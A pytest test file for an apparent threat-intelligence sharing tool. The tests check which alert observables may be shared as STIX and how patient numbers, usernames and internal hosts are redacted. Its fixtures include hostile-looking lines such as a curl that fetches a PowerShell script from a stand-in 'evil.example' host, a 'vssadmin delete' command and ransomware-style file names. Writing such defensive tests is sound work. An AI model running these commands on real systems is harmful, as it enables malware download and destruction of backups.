"""What of an alert could be shared, and what never is."""

import time
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from watchward.intel import stix
from watchward.intel.markings import Tlp
from watchward.intel.never import never
from watchward.intel.observable import Kind, Observable
from watchward.intel.offering import Sight, Standing, offered
from watchward.intel.personal import Inside, Taken, find
from watchward.intel.sharing import Fate, to_share, with_names
from watchward.intel.stix import write
from watchward.intel.stix.telling import Seen, Sender, Telling
from watchward.intel.warninglists import ListType, Warninglist, compile_lists

INSIDE = Inside(hosts=frozenset({"WARD7-PC"}))
EVERYBODYS = compile_lists(
    [Warninglist(name="Top sites", version=3, type=ListType.HOSTNAME, entries=("well.example",), kinds=frozenset(Kind))]
)
NOW = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
SEEN = Seen(title="Odd program", first_at=NOW - timedelta(hours=2), last_at=NOW, count=4)
EVIL = Observable(Kind.DOMAIN, "evil.example")


def _standings(fields, **beside):
    found = offered([Sight(matched=fields, beside=beside)], inside=INSIDE, lists=EVERYBODYS)
    return {one.key: one.standing for one in found.offers}


@pytest.mark.parametrize(
    ("fields", "key", "standing"),
    [
        ({"QueryName": "www.evil.example"}, "domain:www.evil.example", Standing.GOES),
        ({"DestinationIp": "198.51.100.7"}, "ipv4:198.51.100.7", Standing.GOES),
        ({"CommandLine": "curl http://evil.example/a.ps1"}, "url:http://evil.example/a.ps1", Standing.GOES),
        ({"CommandLine": "curl http://evil.example/a.ps1"}, "domain:evil.example", Standing.GOES),
        ({"Hashes": f"SHA256={'ab' * 32}"}, f"sha256:{'ab' * 32}", Standing.GOES),
        ({"QueryName": "cdn.well.example"}, "domain:cdn.well.example", Standing.ASKED),
        ({"Image": r"C:\Temp\locker.exe"}, "process_name:locker.exe", Standing.ASKED),
        ({"ImagePath": r"C:\WINDOWS\odd.exe -m security"}, r"file_path:c:\windows\odd.exe", Standing.ASKED),
        ({"ServiceFileName": r"C:\WINDOWS\odd.exe -m security"}, "file_name:odd.exe", Standing.ASKED),
        ({"DestinationIp": "10.1.2.3"}, "ipv4:10.1.2.3", Standing.TAKEN),
        ({"QueryName": "pas.trust.nhs.uk"}, "domain:pas.trust.nhs.uk", Standing.TAKEN),
        ({"Image": r"C:\Users\mbrown\a.exe"}, r"file_path:c:\users\mbrown\a.exe", Standing.TAKEN),
        ({"QueryName": "ward7-pc.evil.example"}, "domain:ward7-pc.evil.example", Standing.TAKEN),
        ({"MD5": "d41d8cd98f00b204e9800998ecf8427e"}, "md5:d41d8cd98f00b204e9800998ecf8427e", Standing.NEVER),
    ],
)
def test_each_thing_is_judged_by_what_it_tells(fields, key, standing):
    assert _standings(fields)[key] is standing


def test_names_of_people_that_other_fields_give_are_taken_out_of_links_too():
    found = _standings({"CommandLine": "curl http://evil.example/jsmith.zip"}, User=r"TRUST\jsmith")

    assert found["url:http://evil.example/jsmith.zip"] is Standing.TAKEN
    assert found["domain:evil.example"] is Standing.GOES


_LOCKER = r"C:\Windows\tasksche.exe"
_FALSE = r"C:\Users\Public\svchost.exe"
_SYSTEMS = r"C:\Windows\System32\icacls.exe"


@pytest.mark.parametrize(
    ("fields", "beside", "key", "standing"),
    [
        ({"TargetFilename": r"C:\L\out\ORU_2.hl7.WNCRY"}, {}, r"file_path:c:\l\out\oru_2.hl7.wncry", Standing.TAKEN),
        ({"TargetFilename": "/root/.ssh/authorized_keys"}, {}, "file_path:/root/.ssh/authorized_keys", Standing.TAKEN),
        ({"TargetFilename": r"E:\a.dcm.WNCRY"}, {"Image": _LOCKER}, "file_name:tasksche.exe", Standing.ASKED),
        ({"TargetFilename": r"E:\a.dcm"}, {"Image": _LOCKER, "MD5": "ab" * 16}, f"md5:{'ab' * 16}", Standing.TAKEN),
        ({"TargetFilename": r"C:\Temp\drop.exe"}, {}, r"file_path:c:\temp\drop.exe", Standing.ASKED),
        ({"TargetFilename": "/dev/shm/.x/kthread"}, {}, "file_name:kthread", Standing.ASKED),  # noqa: S108 - no file
        ({"TargetFilename": r"E:\a.dcm"}, {"DestinationIp": "198.51.100.7"}, "ipv4:198.51.100.7", Standing.ASKED),
        ({"Image": _SYSTEMS}, {"Hashes": f"MD5={'ab' * 16}"}, f"md5:{'ab' * 16}", Standing.COMMON),
        ({"Image": _SYSTEMS, "Hashes": f"MD5={'ab' * 16}"}, {}, f"md5:{'ab' * 16}", Standing.COMMON),
        ({"Image": _LOCKER, "Hashes": f"MD5={'ab' * 16}"}, {}, f"md5:{'ab' * 16}", Standing.GOES),
        ({"Image": _SYSTEMS, "OriginalFileName": "iCACLS.EXE"}, {}, "file_name:icacls.exe", Standing.COMMON),
        ({"Image": "/usr/sbin/setenforce"}, {}, "process_name:setenforce", Standing.COMMON),
        ({"Image": _SYSTEMS}, {"ParentImage": _LOCKER}, "process_name:tasksche.exe", Standing.ASKED),
        ({"Image": _FALSE, "Hashes": f"MD5={'ab' * 16}"}, {}, f"md5:{'ab' * 16}", Standing.GOES),
        ({"Image": _FALSE}, {}, f"file_path:{_FALSE.lower()}", Standing.ASKED),
        ({"Image": _FALSE}, {}, "file_name:svchost.exe", Standing.COMMON),
        (
            {"CommandLine": "vssadmin delete"},
            {"Image": r"D:\odd\vssadmin.exe"},
            "file_name:vssadmin.exe",
            Standing.COMMON,
        ),
    ],
)
def test_each_thing_is_judged_by_its_part_in_the_event(fields, beside, key, standing):
    assert _standings(fields, **beside)[key] is standing


def test_of_many_touched_files_none_goes_and_the_program_that_touched_them_comes_first():
    events = [
        Sight(matched={"TargetFilename": rf"E:\Images\{number}.dcm.wncry"}, beside={"Image": _LOCKER})
        for number in range(300)
    ]
    offers = offered(events, inside=INSIDE, lists=EVERYBODYS).offers

    assert {one.key for one in offers if one.may_go} == {
        r"file_path:c:\windows\tasksche.exe", "file_name:tasksche.exe", "process_name:tasksche.exe",
    }  # fmt: skip
    assert [one.may_go for one in offers[:3]] == [True] * 3


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (r"C:\Link\out\ORU_218390866.hl7.WNCRY", r"C:\Link\out\ORU_⟦number as of a patient⟧.hl7.WNCRY"),
        (r"E:\Images\69285432\6866.dcm", r"E:\Images\⟦number as of a patient⟧\6866.dcm"),
        ("http://evil.example/20260301.pdf", "http://evil.example/20260301.pdf"),
        (r"C:\Temp\a20260301b.exe", r"C:\Temp\a20260301b.exe"),
    ],
)
def test_numbers_as_of_patients_are_taken_out_of_names_of_documents_and_folders(text, shown):
    assert to_share({"TargetFilename": text}, INSIDE).fields["TargetFilename"] == shown


def test_a_number_as_of_a_patient_is_found_behind_thirty_thousand_others():
    text, began = "123456 " * 30_000 + "- 654321 scan.pdf", time.process_time()

    taken = {text[start:end] for (start, end), what in find(text, INSIDE) if what is Taken.RECORD and end > 210_000}

    assert taken == {"654321"}
    assert time.process_time() - began < 10  # the square of its length would take 25


def test_a_name_is_offered_without_those_above_it():
    assert set(_standings({"QueryName": "a.b.evil.example"})) == {"domain:a.b.evil.example"}


_WORDS = st.sampled_from(
    ["evil.example", "10.0.0.8", "jsmith", "9434765919", "198.51.100.9", "pas.trust.nhs.uk", "http://x.example/q",
     r"C:\Users\jsmith\x.exe", "WARD7-PC", "jo@nhs.net", "0" * 64, "tool.exe", r"HKLM\Software\X", "SW1A 1AA"]
)  # fmt: skip
_FIELDS = st.dictionaries(
    st.sampled_from(["CommandLine", "Image", "QueryName", "DestinationIp", "Hashes", "TargetObject", "c-uri"]),
    st.lists(_WORDS, min_size=1, max_size=4).map(" ".join),
    max_size=4,
)


@given(_FIELDS)
def test_nothing_that_may_go_holds_what_would_be_taken_out_or_may_never_be_blocked(fields):
    found = offered([Sight(matched=fields, beside={"User": "jsmith"})], inside=INSIDE, lists=EVERYBODYS)
    inside = with_names({"User": "jsmith"}, INSIDE)
    for one in found.going:
        assert to_share({"x": one.observable.value}, inside).decisions[0].fate is Fate.KEPT
        assert never(one.observable) is None


def _telling(**given):
    return Telling(**{"sender": Sender(code="T1", name="Elm Trust"), "level": Tlp.GREEN, "at": NOW, **given})


def test_what_is_told_is_sound_stix_and_the_same_when_it_is_told_again():
    once = _telling(group="Imaging").of_things(SEEN, [EVIL], standing={})
    raws = [write.to_bytes(one) for one in once.documents]
    reading = stix.read(b'{"objects":[' + b",".join(raws) + b"]}")
    later = _telling(group="Imaging", at=NOW + timedelta(hours=1)).of_things(SEEN, [EVIL], standing=once.indicators)

    assert reading.refused == ()
    assert [one.type for one in reading.objects] == ["marking-definition", "identity", "indicator", "sighting"]
    assert [one["type"] for one in later.documents] == ["marking-definition", "identity", "sighting"]
    assert later.sightings == once.sightings
    assert later.documents[1] == once.documents[1]
    assert later.documents[2]["created"] == once.documents[3]["created"]


def test_a_sender_without_a_name_leaves_none_and_cannot_be_joined_to_what_they_told_others():
    told = _telling(sender=Sender(code="9f2c")).of_things(SEEN, [EVIL], standing={})
    elsewhere = _telling(sender=Sender(code="9f2c"), level=Tlp.AMBER).of_things(SEEN, [EVIL], standing={})

    assert b"Elm" not in b"".join(write.to_bytes(one) for one in told.documents)
    assert not {one["id"] for one in told.documents} & {one["id"] for one in elsewhere.documents}


def test_what_was_withdrawn_comes_again_as_another_object():
    first, second = _telling(), _telling(again=1)

    assert first.indicator_id(EVIL) != second.indicator_id(EVIL)
    assert first.sighting(SEEN, "indicator--1")["id"] != second.sighting(SEEN, "indicator--1")["id"]


def test_a_sighting_is_marked_as_what_it_is_of():
    told = _telling(as_marked=(Tlp.AMBER_STRICT.marking,), group="Imaging").of_indicator(SEEN, "indicator--1")

    assert all(one["object_marking_refs"] == [Tlp.AMBER_STRICT.marking] for one in told.documents)
